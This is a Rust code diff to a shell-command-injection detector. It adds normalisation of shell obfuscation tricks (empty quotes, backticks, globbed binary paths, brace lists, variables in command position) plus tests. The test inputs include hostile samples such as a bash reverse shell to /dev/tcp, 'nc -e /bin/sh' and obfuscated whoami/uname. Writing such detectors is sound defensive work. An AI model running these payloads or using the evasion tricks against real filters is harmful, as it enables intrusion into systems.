@@ -998,27 +998,60 @@ impl Rules {
                 return Some("rce-windows");
             }
         }
-        // Undo the quoting tricks shells ignore: c\at, c''at, c""at, ca$@t, $u, ${x}.
-        if !cs.any(BACKSLASH | QUOTE | DOLLAR) {
+        // Undo the quoting tricks shells ignore: c\at, c''at, c""at, ca$@t, $u, ${x}, 'cu'rl,
+        // pi``ng, pi$()ng, ${}.
+        if !cs.any(BACKSLASH | QUOTE | DOLLAR | LT | GT) {
             return self.rce_unquoted(s, cs);
         }
         tmp.clear();
         let mut i = 0;
         while i < s.len() {
             let c = s[i];
+            let word_before = i > 0 && s[i - 1].is_ascii_alphanumeric();
+            // Empty constructs expand to nothing: `` ``, $(), <(), >(), ${}, and '' / "" at a
+            // word's edge (`""p""y`).
+            let empty = match (c, s.get(i + 1), s.get(i + 2)) {
+                (b'`', Some(b'`'), _) => 2,
+                (b'$' | b'<' | b'>', Some(b'('), Some(b')')) => 3,
+                (b'$', Some(b'{'), Some(b'}')) => 3,
+                (b'\'' | b'"', Some(&d), n)
+                    if d == c && (word_before || n.is_some_and(|n| n.is_ascii_alphanumeric())) =>
+                {
+                    2
+                }
+                _ => 0,
+            };
+            if empty > 0 {
+                i += empty;
+                continue;
+            }
+            // A quoted word is the word: `;'curl' x`, `kill '-'9`, `"who"ami`.
+            if c == b'\'' || c == b'"' {
+                if let Some(q) = s[i + 1..s.len().min(i + 22)].iter().position(|&d| d == c) {
+                    let inner = &s[i + 1..i + 1 + q];
+                    if q > 0
+                        && inner
+                            .iter()
+                            .all(|&d| d.is_ascii_alphanumeric() || matches!(d, b'-' | b'_' | b'.'))
+                        && s.get(i + q + 2).is_none_or(|&n| {
+                            n.is_ascii_alphanumeric()
+                                || n.is_ascii_whitespace()
+                                || n == b'\''
+                                || n == b'"'
+                                || matches!(n, b';' | b'|' | b'&')
+                        })
+                    {
+                        tmp.extend_from_slice(inner);
+                        i += q + 2;
+                        continue;
+                    }
+                }
+            }
             if c == b'\\'
                 && s.get(i + 1)
                     .is_some_and(|c| c.is_ascii_alphanumeric() || *c == b'/')
             {
                 i += 1;
-                continue;
-            }
-            if (c == b'\'' || c == b'"')
-                && s.get(i + 1) == Some(&c)
-                && i > 0
-                && s[i - 1].is_ascii_alphanumeric()
-            {
-                i += 2;
                 continue;
             }
             if c == b'$' && i > 0 && is_word(s[i - 1]) {
@@ -1074,6 +1107,39 @@ impl Rules {
                 return Some(r);
             }
         }
+        if cs.any(SLASH) {
+            // Bash's network redirections: `exec 5<>/dev/tcp/host/port`, `>& /dev/udp/..`.
+            if f(t, b"/dev/tcp/").is_some() || f(t, b"/dev/udp/").is_some() {
+                return Some("rce-network-redirect");
+            }
+            // A path spelled with globs that a shell expands to a binary: `/???/c?t`,
+            // `/?s?/?i?/w??mi`.
+            if cs.any(QUESTION | STAR | BRACKET) {
+                let mut from = 0;
+                while let Some(p) = memchr::memchr(b'/', &t[from..]) {
+                    let p = from + p;
+                    from = p + 1;
+                    // Only where a path starts, not at each of its slashes.
+                    if p > 0
+                        && (is_word(t[p - 1])
+                            || matches!(t[p - 1], b'/' | b'.' | b'?' | b'*' | b'[' | b']' | b'-'))
+                    {
+                        continue;
+                    }
+                    let end = t[p..]
+                        .iter()
+                        .take(64)
+                        .position(|&c| {
+                            !(is_word(c)
+                                || matches!(c, b'/' | b'?' | b'*' | b'[' | b']' | b'-' | b'.'))
+                        })
+                        .map_or(t.len().min(p + 64), |e| p + e);
+                    if glob_path_is_binary(&t[p..end]) {
+                        return Some("rce-binary-path");
+                    }
+                }
+            }
+        }
         // Absolute paths to binaries: /bin/sh, /usr/bin/id, with globs: /bin/ca?
         for dir in if cs.any(SLASH) { &BIN_DIRS[..] } else { &[] } {
             if let Some(p) = f(t, dir) {
@@ -1123,6 +1189,15 @@ impl Rules {
             while let Some(p) = memchr::memchr(b'{', &t[from..]) {
                 let inner = &t[from + p + 1..t.len().min(from + p + 1 + 256)];
                 from += p + 1;
+                // `{,cmd,arg}`: an empty first element expands to nothing.
+                let inner = &inner[inner.iter().take_while(|&&c| c == b',').count()..];
+                if inner.first() == Some(&b'/') {
+                    if let Some(w) = inner.iter().take(40).position(|&c| c == b',') {
+                        if glob_path_is_binary(&inner[..w]) {
+                            return Some("rce-binary-path");
+                        }
+                    }
+                }
                 let w = inner.iter().take(25).position(|&c| c == b',').unwrap_or(0);
                 if w > 0
                     && memchr::memchr(b'}', inner).is_some_and(|c| c > w)
@@ -1223,7 +1298,7 @@ impl Rules {
                     .or_else(|| rest.strip_prefix(b"("))
                     .or_else(|| rest.strip_prefix(b". "))
                     .unwrap_or(rest);
-                if self.command_at(rest, true).is_some() {
+                if self.command_at(rest, true).is_some() || self.variable_command(t, rest) {
                     return Some("rce-command");
                 }
                 at += sep_len;
@@ -1255,9 +1330,36 @@ impl Rules {
         }
         let word = self.command_name(word)?;
         let weak = self.weak.contains(word);
-        let rest = &s[end..];
+        let mut rest = &s[end..];
+        // A `+` left over from form encoding stands for a blank: `cat+/etc/passwd`.
+        if rest.first() == Some(&b'+')
+            && rest
+                .get(1)
+                .is_some_and(|&c| matches!(c, b'/' | b'-' | b'$' | b'~' | b'.'))
+        {
+            rest = &rest[1..];
+            return self.command_args(word, weak, rest, true, after_sep);
+        }
         let arg = rest.trim_ascii_start();
         let spaced = rest.len() != arg.len() || rest.first().is_some_and(|&c| c == b'\t');
+        self.command_args(word, weak, rest, spaced, after_sep)
+    }
+
+    /// The second half of [`Self::command_at`]: whether what follows command `word` makes it a
+    /// command line. `spaced`: a blank separates them.
+    fn command_args(
+        &self,
+        word: &[u8],
+        weak: bool,
+        rest: &[u8],
+        spaced: bool,
+        after_sep: bool,
+    ) -> Option<bool> {
+        let arg = rest.trim_ascii_start();
+        // A shell or interpreter given code inline: `bash -c ...`, `perl -e ...`, `php -r`.
+        if spaced && inline_code_flag(word, arg) {
+            return Some(true);
+        }
         let shell_arg = arg.first().is_some_and(|&c| {
             matches!(
                 c,
@@ -1312,6 +1414,34 @@ impl Rules {
             return Some(true);
         }
         None
+    }
+
+    /// `$name arg` (or `${name} arg`) where a command belongs: a command hidden in a variable
+    /// (`a=nc;$a -lvp 9`, `;$x cat y`). The variable is assigned earlier in the value, or its
+    /// argument looks like a shell's (an option, a path, another variable, a command).
+    fn variable_command(&self, whole: &[u8], rest: &[u8]) -> bool {
+        let Some(v) = rest.strip_prefix(b"$") else {
+            return false;
+        };
+        let v = v.strip_prefix(b"{").unwrap_or(v);
+        let n = v.iter().take_while(|&&c| is_word(c)).count();
+        if n == 0 || n > 16 || !v[0].is_ascii_alphabetic() {
+            return false;
+        }
+        let after = v[n..].strip_prefix(b"}").unwrap_or(&v[n..]);
+        if !after.first().is_some_and(|c| *c == b' ' || *c == b'\t') {
+            return false;
+        }
+        let arg = after.trim_ascii_start();
+        let word = arg
+            .iter()
+            .position(|&c| !is_word(c))
+            .map_or(arg, |e| &arg[..e]);
+        let mut assigned = v[..n].to_vec();
+        assigned.push(b'=');
+        arg.first().is_some_and(|c| matches!(c, b'-' | b'/' | b'$'))
+            || (!word.is_empty() && self.command_name(word).is_some())
+            || (!arg.is_empty() && crate::find(whole, &assigned).is_some())
     }
 
     /// The command a word names: itself, without a version (`python3.10`, `php7`), or the part
@@ -1588,6 +1718,57 @@ fn looks_like_host(arg: &[u8]) -> bool {
         })
 }
 
+/// A shell or interpreter followed by its run-this-code flag and the code.
+fn inline_code_flag(word: &[u8], arg: &[u8]) -> bool {
+    let flag: &[u8] = match word {
+        b"sh" | b"bash" | b"zsh" | b"ksh" | b"dash" | b"ash" | b"csh" | b"tcsh" | b"fish"
+        | b"busybox" | b"python" | b"python2" | b"python3" => b"-c",
+        b"perl" | b"ruby" | b"node" | b"nodejs" | b"lua" => b"-e",
+        b"php" => b"-r",
+        _ => return false,
+    };
+    arg.strip_prefix(flag).is_some_and(|r| {
+        r.first().is_some_and(|c| *c == b' ' || *c == b'\t')
+            && r.trim_ascii_start()
+                .first()
+                .is_some_and(|c| !c.is_ascii_whitespace())
+    })
+}
+
+/// `/???/c?t`, `/u*/b*/wh?ami`: an absolute path with wildcards whose last part is (or matches) a
+/// strong command, and whose directories are short wildcard patterns or the usual binary folders.
+fn glob_path_is_binary(p: &[u8]) -> bool {
+    if p.first() != Some(&b'/') || !p.iter().any(|&c| matches!(c, b'?' | b'*' | b'[')) {
+        return false;
+    }
+    // At most three folders (`/usr/local/bin`), each a binary folder's name or a short
+    // wildcard pattern that matches one.
+    let mut last = None;
+    let mut folders = 0;
+    for part in p[1..].split(|&c| c == b'/').filter(|x| !x.is_empty()) {
+        if let Some(dir) = last.replace(part) {
+            folders += 1;
+            let known = [&b"bin"[..], b"sbin", b"usr", b"local"].contains(&dir);
+            if folders > 3
+                || !(known
+                    || dir.len() <= 5
+                        && glob_matches_any(dir, &[b"bin", b"sbin", b"usr", b"local"]))
+            {
+                return false;
+            }
+        }
+    }
+    let Some(last) = last else {
+        return false;
+    };
+    folders > 0
+        && (STRONG_COMMANDS.iter().any(|c| c.as_bytes() == last) || glob_matches_command(last))
+}
+
+fn glob_matches_any(p: &[u8], words: &[&[u8]]) -> bool {
+    p.iter().any(|&c| matches!(c, b'?' | b'*' | b'[')) && words.iter().any(|w| glob(p, w))
+}
+
 const SHELL_VARS: [&[u8]; 6] = [
     b"${ifs",
     b"$ifs",
@@ -1682,6 +1863,107 @@ mod tests {
                 None,
                 "false positive: {b}"
             );
+        }
+    }
+}
+
+#[cfg(test)]
+mod class_tests {
+    use super::super::Rules;
+
+    fn hit(r: &Rules, s: &str) -> Option<&'static str> {
+        let l = s.to_ascii_lowercase().into_bytes();
+        r.rce(&l, None, crate::chars::summary(&l), &mut Vec::new())
+    }
+
+    #[test]
+    fn empty_constructs_and_quoted_words_are_undone() {
+        let r = Rules::new();
+        for a in [
+            "q;\"\"u\"\"n\"\"a\"\"m\"\"e -a",
+            "k|wh``oami",
+            "z;una$()me -a",
+            "z;cu<()rl http://h.example/a",
+            "v;'nc' -e /bin/sh h 1",
+            "r&&\"uname\" -a",
+            "x;'who'ami",
+        ] {
+            assert!(hit(&r, a).is_some(), "missed: {a}");
+        }
+        for b in [
+            "He said 'hello' and \"bye\" to me",
+            "We sell 'cat' toys; 'dog' toys",
+            "the \"\" empty string",
+            "size ``M`` only",
+            "Rock 'n' roll",
+        ] {
+            assert_eq!(hit(&r, b), None, "false positive: {b}");
+        }
+    }
+
+    #[test]
+    fn interpreters_with_inline_code() {
+        let r = Rules::new();
+        for a in [
+            "zsh -c 'uname -a'",
+            "python3 -c \"import os\"",
+            "ruby -e 'exit'",
+            "php -r 'phpinfo();'",
+        ] {
+            assert!(hit(&r, a).is_some(), "missed: {a}");
+        }
+        for b in [
+            "Birthday bash -- come along",
+            "bash - c",
+            "Ruby -eyed",
+            "python course",
+        ] {
+            assert_eq!(hit(&r, b), None, "false positive: {b}");
+        }
+    }
+
+    #[test]
+    fn variables_in_command_position_and_network_redirects() {
+        let r = Rules::new();
+        for a in [
+            "t=uname;$t -a",
+            "x && ${t} -lvp 9",
+            "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
+            "cat < /dev/udp/192.0.2.1/53",
+        ] {
+            assert!(hit(&r, a).is_some(), "missed: {a}");
+        }
+        for b in [
+            "price $5 & $name tag",
+            "tea; $ 4.50",
+            "a;$b",
+            "/dev/ttyS0 settings",
+        ] {
+            assert_eq!(hit(&r, b), None, "false positive: {b}");
+        }
+    }
+
+    #[test]
+    fn glob_paths_brace_lists_and_plus_blanks() {
+        let r = Rules::new();
+        for a in [
+            "/u?r/b?n/una?e -a",
+            "x;/???/w?oami",
+            "{,/b*/u?ame,-a}",
+            "{,uname,-a}",
+            "h.example;uname+-a",
+        ] {
+            assert!(hit(&r, a).is_some(), "missed: {a}");
+        }
+        for b in [
+            "The /usr/*/ folder",
+            "q=?/?/?",
+            "/images/c?t.png",
+            "{,a,b}",
+            "c++ course",
+            "python+django developer",
+        ] {
+            assert_eq!(hit(&r, b), None, "false positive: {b}");
         }
     }
 }
